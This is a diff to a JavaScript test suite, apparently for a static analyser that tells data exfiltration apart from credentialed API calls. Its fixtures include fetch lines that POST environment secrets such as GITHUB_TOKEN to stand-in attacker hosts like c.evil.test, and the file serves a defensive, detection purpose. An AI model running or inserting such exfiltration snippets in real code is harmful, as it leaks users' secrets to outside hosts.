@@ -103,7 +103,7 @@ await fetch('https://hooks.evil.test/up', { method: 'POST', body: fd });`,
     expect(ofKind(r, 'send').some((b) => b.data.secret === 'env-all')).toBe(true);
   });
 
-  it('a secret env variable in a body is sent; the same token in an Authorization header is not data', async () => {
+  it('a secret env variable in a body is sent; the same token in an Authorization header is a credential', async () => {
     const body = await js(
       `fetch('https://c.evil.test', { method: 'POST', body: process.env.GITHUB_TOKEN });`,
     );
@@ -112,7 +112,37 @@ await fetch('https://hooks.evil.test/up', { method: 'POST', body: fd });`,
       `fetch('https://api.github.com/user', { headers: { Authorization: \`Bearer \${process.env.GITHUB_TOKEN}\` } });`,
     );
     expect(ofKind(auth, 'send')).toEqual([]);
-    expect(ofKind(auth, 'fetch')[0]!.endpoint.cls).toBe('registry');
+    const f = ofKind(auth, 'fetch')[0]!;
+    expect(f.endpoint.cls).toBe('registry');
+    expect(f.credentials?.secret).toBe('env-secret');
+  });
+
+  it.each([
+    [
+      'an API key in the query',
+      `await fetch(\`https://api.weather.example.net/v1?q=x&api_key=\${process.env.WEATHER_API_KEY}\`);`,
+    ],
+    [
+      'a bot token in the path',
+      `await fetch(\`https://api.telegram.org/bot\${process.env.TELEGRAM_BOT_TOKEN}/getMe\`);`,
+    ],
+    [
+      'axios auth option',
+      `await require('axios').get('https://api.example.net/x', { auth: { username: 'u', password: process.env.API_PASSWORD } });`,
+    ],
+    [
+      'x-api-key header on http.request',
+      `require('https').request({ host: 'api.example.net', path: '/', headers: { 'x-api-key': process.env.SERVICE_API_KEY } }).end();`,
+    ],
+  ])('credentials, not data: %s', async (_name, code) => {
+    const r = await js(code);
+    expect(ofKind(r, 'send')).toEqual([]);
+    expect(ofKind(r, 'fetch')[0]!.credentials?.taints).toContain('secret');
+  });
+
+  it('a POST with no body is a send (of nothing known)', async () => {
+    const r = await js(`await fetch('https://c.evil.test/ping', { method: 'POST' });`);
+    expect(ofKind(r, 'send')[0]!.data.text).toBe('');
   });
 
   it('DNS names built from data are a send over DNS', async () => {
